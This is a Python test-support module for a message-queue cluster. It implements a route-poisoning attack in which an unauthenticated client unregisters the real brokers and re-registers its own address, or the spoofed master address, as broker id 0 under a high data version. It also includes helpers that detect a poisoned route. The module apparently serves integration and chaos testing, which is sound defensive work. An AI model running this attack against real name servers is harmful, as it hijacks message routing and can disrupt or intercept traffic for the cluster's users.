"""Route poisoning through the controllers' name-server codes: the attack, and how to read what a route says.

A stranger with no credentials unregisters (104) every real broker address of the group, then registers
(103) his own address as id 0 of the real group under another cluster, again with a data version of 2^62,
and with the master's own address spoofed, and keeps his connections open. Used by the integration test
(tests/integration/test_route_poisoning.py) and by the chaos run's ``route_poisoning`` fault.
"""

from __future__ import annotations

from services.common.codes import ResponseCode
from services.common.errors import MqctlError
from services.common.remoting_client import RemotingClient
from services.remoting import bodies
from services.remoting import headers as h
from services.remoting.command import RemotingCommand, RequestCode, make_request
from services.remoting.namesrv_bodies import (
    DataVersion,
    RegisterBrokerBody,
    TopicConfig,
    TopicConfigSerializeWrapper,
    body_crc32,
)

STRANGER = "127.0.0.1:1"
AUTO_CREATE_TOPIC = "TBW102"


def registration(group: str, topic: str, address: str, cluster: str, version: DataVersion) -> RemotingCommand:
    """A registration of ``address`` as id 0 of ``group``, serving ``topic`` and TBW102."""
    topics = {t: TopicConfig(t, 8, 8, 7 if t == AUTO_CREATE_TOPIC else 6) for t in (topic, AUTO_CREATE_TOPIC)}
    body = RegisterBrokerBody(TopicConfigSerializeWrapper(topics, version)).encode()
    header = h.RegisterBrokerRequestHeader(broker_name=group, broker_addr=address, cluster_name=cluster,
                                           ha_server_addr=address, broker_id=0, body_crc32=body_crc32(body))
    return make_request(RequestCode.REGISTER_BROKER, 0, header.to_ext_fields(), body)


def unregistration(group: str, cluster: str, address: str, broker_id: int) -> RemotingCommand:
    header = h.UnRegisterBrokerRequestHeader(broker_name=group, broker_addr=address, cluster_name=cluster,
                                             broker_id=broker_id)
    return make_request(RequestCode.UNREGISTER_BROKER, 0, header.to_ext_fields())


async def attack(client: RemotingClient, controllers: list[str], group: str, cluster: str, topic: str,
                 master: str, brokers: list[str]) -> list[RemotingCommand]:
    """Every step on every controller, on ``client``'s connections (left open); the answers received."""
    answers = []
    steps = [unregistration(group, cluster, address, broker_id) for broker_id, address in enumerate(brokers)]
    steps += [registration(group, topic, STRANGER, "EvilCluster", DataVersion()),
              registration(group, topic, STRANGER, cluster, DataVersion(2**62, 1, 1)),
              registration(group, topic, master, cluster, DataVersion(2**62, 1, 1))]
    for controller in controllers:
        for step in steps:
            try:
                answers.append(await client.call(controller, step))
            except MqctlError:
                continue  # a controller that is down or drops the stranger: nothing to poison there
    return answers


async def route_of(controller: str, topic: str, timeout_s: float = 3.0) -> dict[int, str] | None:
    """The broker ids and addresses a controller's route for ``topic`` lists (None: no route)."""
    client = RemotingClient(timeout_s=timeout_s)
    try:
        answer = await client.call(controller, make_request(
            RequestCode.GET_ROUTEINFO_BY_TOPIC, 0, h.GetRouteInfoRequestHeader(topic=topic).to_ext_fields()))
    finally:
        await client.close()
    if answer.code != ResponseCode.SUCCESS:
        return None
    route = bodies.TopicRouteData.decode(answer.body)
    return {i: a for b in route.broker_datas for i, a in b.broker_addrs.items()}


def poisoned(shown: dict[int, str] | None, master: str, members: set[str]) -> str | None:
    """What is wrong with a route that should name ``master`` as 0 and only ``members`` (None: nothing)."""
    if shown is None:
        return "no route"
    if shown.get(0) != master:
        return f"id 0 is {shown.get(0)}, the controller's master is {master}"
    strangers = sorted(set(shown.values()) - members)
    return f"addresses outside the group: {strangers}" if strangers else None
